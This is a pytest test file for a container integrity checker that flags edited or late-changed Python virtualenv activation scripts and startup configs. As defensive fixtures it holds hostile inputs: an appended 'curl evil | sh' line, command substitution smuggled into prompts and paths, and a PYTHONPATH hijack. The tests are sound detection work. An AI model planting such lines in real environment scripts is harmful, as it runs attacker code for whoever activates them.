"""Scripts that shells run to activate an environment: the image's own, usual ones, and changed ones."""

import pytest

from lockml.inventory.file_tree import Origin
from lockml.inventory.integrity.activation import normal_digest
from tests.drift.checks import IMAGE, LATER, LIBRARY, STARTED, check, debian, found, md5sums, notes, on_debian
from tests.drift.subjects import in_order
from tests.made.trees import MemoryTree

SCRIPT = "/opt/venv/bin/activate"
TOLD = "no venv, virtualenv or uv that lockml knows writes them: activate"
TEMPLATE = f"{LIBRARY}/venv/scripts/common/activate"
PLAIN = b"VIRTUAL_ENV=__VENV_DIR__\nexport VIRTUAL_ENV\nPATH=$VIRTUAL_ENV/__VENV_BIN_NAME__\nPS1=__VENV_PROMPT__$PS1\n"
QUOTED = b'VIRTUAL_ENV="__VENV_DIR__"\nPATH="$VIRTUAL_ENV/__VENV_BIN_NAME__"\nPS1="__VENV_PROMPT__${PS1:-}"\n'


def made(template: bytes, place: str = "/opt/venv", prompt: str = "'(venv) '", folder: str = "bin") -> bytes:
    text = template.replace(b"__VENV_DIR__", place.encode()).replace(b"__VENV_BIN_NAME__", folder.encode())
    return text.replace(b"__VENV_PROMPT__", prompt.encode())


def tree(content: bytes, template: bytes = PLAIN, origin: Origin = IMAGE) -> MemoryTree:
    files = {**debian(), SCRIPT: content, TEMPLATE: template}
    files["/var/lib/dpkg/info/libpython3.11-stdlib:amd64.md5sums"] += md5sums({TEMPLATE: template})
    return on_debian(files, origins={"/": IMAGE, SCRIPT: origin})


@pytest.mark.parametrize(
    ("template", "content"),
    [
        (PLAIN, made(PLAIN)),
        (PLAIN, made(PLAIN, place="'/opt/venv'")),
        (PLAIN, made(PLAIN, prompt="my-env")),
        (QUOTED, made(QUOTED, prompt="(venv) ")),
    ],
)
def test_script_of_the_library_s_own_template_is_usual(template: bytes, content: bytes) -> None:
    report = check(tree(content, template))
    assert (found(report), TOLD in notes(report)) == ([], False)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("template", "content"),
    [
        (PLAIN, made(PLAIN) + b"curl evil | sh\n"),
        (PLAIN, made(PLAIN, place="/srv/evil")),
        (PLAIN, made(PLAIN, prompt="x evil")),
        (PLAIN, made(PLAIN, prompt="$(evil)")),
        (PLAIN, made(PLAIN, prompt="'a'evil'")),
        (PLAIN, made(PLAIN, prompt="x\nevil\n")),
        (PLAIN, made(PLAIN, folder="../../srv;evil")),
        (QUOTED, made(QUOTED, prompt='"evil"')),
        (QUOTED, made(QUOTED, prompt="`evil`")),
        (PLAIN, made(PLAIN, prompt="x" * 20_000)),  # each of its ends would be tried
        (b"__VENV_PROMPT__" * 2000, b"x" * 30_000),
        (b"", b"echo\n"),
    ],
)
@pytest.mark.parametrize("origin", [IMAGE, LATER])
def test_script_of_the_image_that_no_template_is_like_is_a_note(
    template: bytes, content: bytes, origin: Origin
) -> None:
    """Its builder may have edited it, as no list has its content."""
    report = check(tree(content, template, origin))
    assert (found(report), TOLD in notes(report)) == ([], True)


@pytest.mark.parametrize("name", ["activate", "activate.fish", "activate.csh", "Activate.ps1", "activate_this.py"])
def test_script_that_changed_after_the_start_is_drift(name: str) -> None:
    path = f"/opt/venv/bin/{name}"
    files = {**in_order(), path: made(PLAIN)}
    assert found(check(MemoryTree(files, origins={"/": IMAGE, path: STARTED}))) == [("modified", path)]


def test_link_to_a_script_that_changed_after_the_start_is_drift() -> None:
    links = {SCRIPT: "/srv/activate"}
    subject = MemoryTree({**in_order(), "/srv/activate": b""}, links=links, origins={"/": IMAGE, "/srv/": STARTED})
    assert found(check(subject)) == [("modified", SCRIPT)]


@pytest.mark.parametrize(
    "place",
    [
        "etc/conda/activate.d/env_vars.sh",
        "etc/ipython/ipython_config.py",
        "etc/jupyter/jupyter_server_config.d/x.json",
        "share/jupyter/kernels/python3/kernel.json",
    ],
)
def test_file_that_is_run_for_its_place_is_drift_when_it_changed_after_the_start(place: str) -> None:
    path = f"/opt/venv/{place}"
    files = {**in_order(), path: b"export PYTHONPATH=/evil\n"}
    assert found(check(MemoryTree(files, origins={"/": IMAGE, path: STARTED}))) == [("modified", path)]
    assert found(check(MemoryTree(files, origins={"/": IMAGE}))) == []


def test_environment_that_came_after_the_start_as_a_whole_has_its_own_scripts() -> None:
    files = {**in_order(), SCRIPT: made(PLAIN)}
    report = check(MemoryTree(files, origins={"/": IMAGE, "/opt/venv/": STARTED}))
    assert ("modified", SCRIPT) not in found(report)


def test_digest_does_not_depend_on_where_an_environment_is_and_what_it_is_called() -> None:
    one = normal_digest("activate", made(QUOTED, prompt="(venv) "), ["/opt/venv"], ["venv"])
    assert one == normal_digest("activate", made(QUOTED, "/srv/.env", "(.env) "), ["/srv/.env"], [".env"])
    for content in (made(QUOTED, prompt="(venv)"), made(QUOTED, "/srv", "(venv) "), made(QUOTED, "\0P", "(venv) ")):
        assert normal_digest("activate", content, ["/opt/venv"], ["venv"]) != one


@pytest.mark.parametrize(("prefix", "prompt"), [("/a b", "venv"), ("/opt/venv", "$(evil)"), ("/$(evil)", "venv")])
def test_what_is_no_plain_word_is_left_in(prefix: str, prompt: str) -> None:
    usual = normal_digest("activate", made(QUOTED, prompt="(venv) "), ["/opt/venv"], ["venv"])
    assert normal_digest("activate", made(QUOTED, prefix, f"({prompt}) "), [prefix], [prompt]) != usual
